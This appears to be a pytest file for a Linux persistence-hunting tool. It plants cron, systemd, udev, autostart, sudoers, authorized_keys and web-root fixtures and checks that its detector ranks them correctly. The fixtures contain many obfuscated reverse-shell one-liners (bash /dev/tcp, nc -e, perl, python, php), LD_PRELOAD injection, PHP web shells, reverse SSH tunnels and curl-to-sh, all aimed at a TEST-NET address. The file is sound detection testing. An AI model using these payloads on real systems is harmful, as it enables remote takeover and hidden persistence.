"""Persistence against a hostile host (issue 21 review, helper a21): payloads hidden by the
quoting, continuation and indirection forms the real consumer (bash, systemd, udev, the desktop
session) still executes, files in unit directories the piece used to skip, and collector traps
(FIFOs, devices, loops, long lines, garbled listings). Each plant runs through the real collector
piece over a fixture tree ($HR), then the parser; benign look-alikes stay below high."""

from __future__ import annotations

import os
import sys
import time
from pathlib import Path

import pytest

from hardening.hunt.model import Tier
from hardening.hunt.payload import ansi_c, judge
from hardening.hunt.persistence import parse_persistence

sys.path.insert(0, str(Path(__file__).parent))
from test_persistence import run_piece

IP = "192.0.2.1"  # TEST-NET-1: nothing connects, the text is only read
LONG = ": " + "A" * 3000 + f"; bash -i >& /dev/tcp/{IP}/4444 0>&1 &\n"

MALICIOUS: dict[str, str] = {
    # bash undoes the quoting: the same /dev/tcp redirection
    "etc/cron.d/quoted": f"* * * * * root bash -c \"bash -i >& /d''ev/tc''p/{IP}/4444 0>&1\"\n",
    "root/.bashrc": f"bash -i >& $'\\x2f'dev/tcp/{IP}/4444 0>&1 &\n",
    "etc/cron.d/evaljob": f'* * * * * root eval "nc {IP} 4444 -e /bin/sh"\n',
    "etc/cron.d/envsplit": f"* * * * * root env -S 'nc -e /bin/sh {IP} 4444'\n",
    "etc/cron.d/reversed": f"* * * * * root echo '1&>0 4444/{IP[::-1]}/pct/ved/ &> i- hsab' | rev | bash\n",
    # a script in a world-writable directory run by an interpreter or sourced
    "etc/rc.local": "#!/bin/sh\nsh /tmp/.s\nexit 0\n",
    "etc/profile.d/zz-src.sh": ". /dev/shm/.env\n",
    "etc/profile.d/long.sh": LONG,
    # systemd: a continuation line, the control directory, the user data directory, loader variables
    "etc/systemd/system/cont.service": f"[Service]\nExecStartPre=/bin/sh -c \\\n  'nc {IP} 4444 -e /bin/sh'\n"
    "ExecStart=/bin/true\n",
    "etc/systemd/system.control/ssh.service.d/50-x.conf": "[Service]\nExecStartPost=/dev/shm/.x\n",
    "root/.local/share/systemd/user/sync.service": "[Service]\nExecStart=/usr/bin/python3 /tmp/.p.py\n",
    "etc/systemd/system/pre.service.d/env.conf": "[Service]\nEnvironment=LD_PRELOAD=/dev/shm/l.so\n",
    "etc/systemd/system/envf.service": "[Service]\nEnvironmentFile=-/tmp/.e\nExecStart=/usr/bin/sleep 1\n",
    # udev's RUN{program}+= is RUN+=
    "etc/udev/rules.d/99-x.rules": 'ACTION=="add", RUN{program}+="/dev/shm/u"\n',
    # the desktop session runs an autostart entry's Exec= at login
    "root/.config/autostart/upd.desktop": (
        f'[Desktop Entry]\nType=Application\nExec=sh -c "ncat {IP} 4444 -e /bin/sh"\n'
    ),
    "etc/xdg/autostart/x.desktop": f"[Desktop Entry]\nExec=bash -c 'bash -i >& /dev/tcp/{IP}/4444 0>&1'\n",
    # run as root on an event (an SSH login's motd, an interface up), by sshd at a login, by .bashrc
    "etc/update-motd.d/99-x": f"#!/bin/sh\nnc -e /bin/sh {IP} 1 &\n",
    "etc/NetworkManager/dispatcher.d/50-x": "#!/bin/sh\nsh /dev/shm/.n\n",
    "root/.ssh/rc": f"bash -i >& /dev/tcp/{IP}/1 0>&1 &\n",
    "root/.bash_aliases": f"alias ls='ls; sh -i >& /dev/tcp/{IP}/1 0>&1 &'\n",
    # a sudoers file outside /etc/sudoers.d, reached through an include
    "opt/sd/x": "ALL ALL=(ALL) NOPASSWD: /dev/shm/x\n",
}
MEDIUM: dict[str, str] = {
    "etc/sudoers": "Defaults env_reset\n@includedir /opt/sd\n",
    "etc/systemd/system/pre2.service.d/env.conf": '[Service]\nEnvironment="LD_PRELOAD=/opt/l/x.so" LANG=C\n',
    # the continuation was not read (no pattern on it): never silently clean
    "etc/systemd/system/py.service": "[Service]\nExecStart=/usr/bin/python3 -c \\\n  'import os'\n",
}
BENIGN: dict[str, str] = {
    "etc/cron.d/backup": "0 3 * * * root bash /usr/local/sbin/backup.sh\n",
    "etc/systemd/system/app.service": "[Service]\nEnvironment=LANG=C.UTF-8 PATH=/usr/bin\nExecStart=/usr/bin/app \\\n"
    "  --config /etc/app.conf\n",
    "etc/xdg/autostart/applet.desktop": "[Desktop Entry]\nName=Applet\nExec=/usr/bin/nm-applet\n",
    "etc/profile.d/ok.sh": ". /etc/os-release\n",
}


def _tree(root: Path, plants: dict[str, str]) -> None:
    (root / "etc").mkdir(parents=True, exist_ok=True)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/sh\nweird:x:9:9::/proc:/bin/sh\n")
    (root / "root").mkdir(exist_ok=True)
    for rel, text in plants.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile") / "r"
    _tree(root, {**MALICIOUS, **MEDIUM, **BENIGN})
    return root, parse_persistence(run_piece(root))


def test_hidden_payloads_are_high(report):
    root, rep = report
    found = {f.entry.path: f for f in rep.findings}
    for rel in MALICIOUS:
        f = found.get(f"{root}/{rel}")
        assert f is not None and f.tier is Tier.HIGH, (rel, f)


def test_unread_continuations_and_loader_paths_are_medium(report):
    root, rep = report
    found = {f.entry.path: f for f in rep.findings}
    for rel in MEDIUM:
        f = found.get(f"{root}/{rel}")
        assert f is not None and f.tier is Tier.MEDIUM, (rel, f)


def test_benign_look_alikes_are_not_high(report):
    root, rep = report
    found = {f.entry.path: f for f in rep.findings}
    for rel in BENIGN:
        f = found.get(f"{root}/{rel}")
        assert f is None or f.tier is not Tier.HIGH, (rel, f)


def test_long_line_keeps_its_end(report):
    root, rep = report
    f = {x.entry.path: x for x in rep.findings}[f"{root}/etc/profile.d/long.sh"]
    assert any("/dev/tcp/" in t and "[...]" in t for _, t in f.entry.lines), f.entry.lines


def test_fifos_devices_and_loops_never_block(tmp_path):
    root = tmp_path / "r"
    _tree(root, {"etc/cron.d/real": f"* * * * * root nc -e /bin/sh {IP} 1\n"})
    os.mkfifo(root / "etc/cron.d/fifo")
    os.mkfifo(root / "fifo2")
    (root / "etc/cron.d/tofifo").symlink_to(root / "fifo2")
    (root / "etc/cron.d/zero").symlink_to("/dev/zero")
    (root / "etc/cron.d/loop").symlink_to(root / "etc/cron.d/loop")
    (root / "root/.bashrc").symlink_to(root / "fifo2")
    start = time.monotonic()
    rep = parse_persistence(run_piece(root))
    assert time.monotonic() - start < 30
    assert {f.entry.path for f in rep.findings if f.tier is Tier.HIGH} >= {f"{root}/etc/cron.d/real"}


def test_a_symlink_target_with_a_tab_or_newline_is_never_silent(tmp_path):
    root = tmp_path / "r"
    _tree(root, {})
    target = root / "opt/a\tb"
    target.mkdir(parents=True)
    (target / "evil.service").write_text(f"[Service]\nExecStart=/bin/nc -e /bin/sh {IP} 1\n")
    (root / "etc/systemd/system").mkdir(parents=True)
    (root / "etc/systemd/system/evil.service").symlink_to(target / "evil.service")
    nl = root / "opt/c\nd"
    nl.mkdir(parents=True)
    (nl / "x.service").write_text("[Service]\nExecStart=/bin/true\n")
    (root / "etc/systemd/system/x.service").symlink_to(nl / "x.service")
    rep = parse_persistence(run_piece(root))
    high = {f.entry.path for f in rep.findings if f.tier is Tier.HIGH}
    assert f"{root}/etc/systemd/system/evil.service" in high or not rep.complete, rep
    assert not rep.complete and any("listing lines" in w for w in rep.warnings), rep.warnings


@pytest.mark.parametrize(
    "text",
    [
        f'bash -i >& "/dev/"tcp/{IP}/1 0>&1',
        f"a=/dev/tc; bash -i >& ${{a}}p/{IP}/1 0>&1",
        f"perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"{IP}:1\");STDIN->fdopen($c,r);system$_ while<>;'",
        f"zsh -c 'zmodload zsh/net/tcp && ztcp {IP} 1 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
        f"echo x | gzip -d | sh; LD_PRELOAD=/var/tmp/.l.so /usr/sbin/cron {IP}",
        f"python3 -c \"import os;os.system('nc -e /bin/sh {IP} 1')\"",
        f"python3 -c 'import pty,socket,os;s=socket.create_connection((\"{IP}\",1));os.dup2(s.fileno(),0)'",
        f'node -e \'require("child_process").exec("nc -e /bin/sh {IP} 1")\'',
        f"php -r '$s=fsockopen(\"{IP}\",1);`sh <&3 >&3`;'",
        f'sh -c "$(echo nc -e /bin/sh {IP} 1)"',
        f"sh -c \"$(printf '\\156\\143 -e /bin/sh {IP} 1')\"",
    ],
)
def test_judge_sees_through_obfuscation(text):
    assert judge(text) and judge(text)[0][0] is Tier.HIGH, judge(text)


def test_ansi_c_decodes_as_bash():
    assert ansi_c(r"x $'\x2f\101\u0042\cA\'q' y") == "x '/AB\x01'\\''q' y"


@pytest.mark.parametrize(
    "line",
    [
        "PGPASSWORD=S3cret pg_dump db",
        'MYSQL_PWD="S3cret x" mysql',
        "curl -u admin:S3cret http://h/",
        "sshpass -p S3cret ssh h",
        "curl -H 'Authorization: Bearer S3cretS3cret' h",
        "redis-cli -h h -a S3cret ping",
        "ldapsearch -x -w S3cret",
        "smbclient //h/s -U u%S3cret",
        "echo S3cret | sudo -S true",
        "openssl enc -d -k S3cret",
    ],
)
def test_secrets_in_persistence_lines_never_reach_an_output(tmp_path, line):
    root = tmp_path / "r"
    _tree(root, {"etc/profile.d/x.sh": f"{line}; bash -i >& /dev/tcp/{IP}/1 0>&1\n"})
    rep = parse_persistence(run_piece(root))
    (f,) = [x for x in rep.findings if x.entry.path.endswith("/x.sh")]
    assert f.tier is Tier.HIGH
    assert "S3cret" not in repr(f), f


def test_a_masked_value_ends_at_a_shell_operator():
    from hardening.hunt.authkeys import mask_secrets

    line = "PGPASSWORD=x;nc${IFS}-e${IFS}/bin/sh${IFS}h${IFS}1; pg_dump db"
    assert "nc${IFS}-e" in mask_secrets(line)  # a drift key cannot hide the command behind the mask
    assert judge(line)[0][0] is Tier.HIGH  # ${IFS} splits words like a space


def test_console_escapes_bidi_and_zero_width_characters():
    from hardening.console import safe

    assert safe("/etc/cron.d/x\u202ehs.kcab\u200b\x1b[2J") == "/etc/cron.d/x\\u202ehs.kcab\\u200b\\x1b[2J"


def test_a_symlinked_web_root_and_a_symlinked_page_are_read(tmp_path):
    root = tmp_path / "r"
    _tree(root, {"data/www/up.php": "<?php system($_GET['c']); ?>\n", "data/www/ok.php": "<?php echo 1; ?>\n"})
    (root / "var").mkdir()
    (root / "var/www").symlink_to(root / "data/www")
    (root / "dev/shm").mkdir(parents=True)
    (root / "dev/shm/.x.php").write_text("<?php eval($_POST['x']); ?>\n")
    (root / "data/www/img.php").symlink_to(root / "dev/shm/.x.php")
    found = {f.entry.path: f for f in parse_persistence(run_piece(root)).findings}
    assert found[f"{root}/var/www/up.php"].tier is Tier.HIGH
    assert found[f"{root}/var/www/img.php"].tier is Tier.HIGH


def test_authorized_keys_option_names_in_any_case(tmp_path):
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHDy7cJ3Ju1XfPrRn0fKGwmH4jVzxgh9Q8tmY1mBmdnU k"
    root = tmp_path / "r"
    _tree(root, {"root/.ssh/authorized_keys": f'COMMAND="nc -e /bin/sh {IP} 1" {key}\n'})
    _tree(root, {"root/.ssh/authorized_keys2": f'no-pty,Environment="LD_PRELOAD=/dev/shm/l.so" {key}\n'})
    found = {f.entry.path: f for f in parse_persistence(run_piece(root)).findings}
    assert found[f"{root}/root/.ssh/authorized_keys"].tier is Tier.HIGH  # sshd matches names case-insensitively
    assert found[f"{root}/root/.ssh/authorized_keys2"].tier is Tier.HIGH


@pytest.mark.parametrize(
    "text",
    [
        f"ssh -fNR 4444:127.0.0.1:22 u@{IP}",
        f"autossh -M 0 -f -N -R 2222:localhost:22 u@{IP}",
        f'sh -c "$(curl -fsSL http://{IP}/x)"',
    ],
)
def test_reverse_tunnels_and_substituted_downloads_are_medium(text):
    assert judge(text) and judge(text)[0][0] is Tier.MEDIUM, judge(text)


@pytest.mark.parametrize(
    "text",
    ['sh -c "$(date)"', "ssh -p 2222 backup@h rsync --server", 'python3 -c "print(1)"', 'printf "%s\\n" done'],
)
def test_benign_commands_stay_clean(text):
    assert judge(text) == [], judge(text)
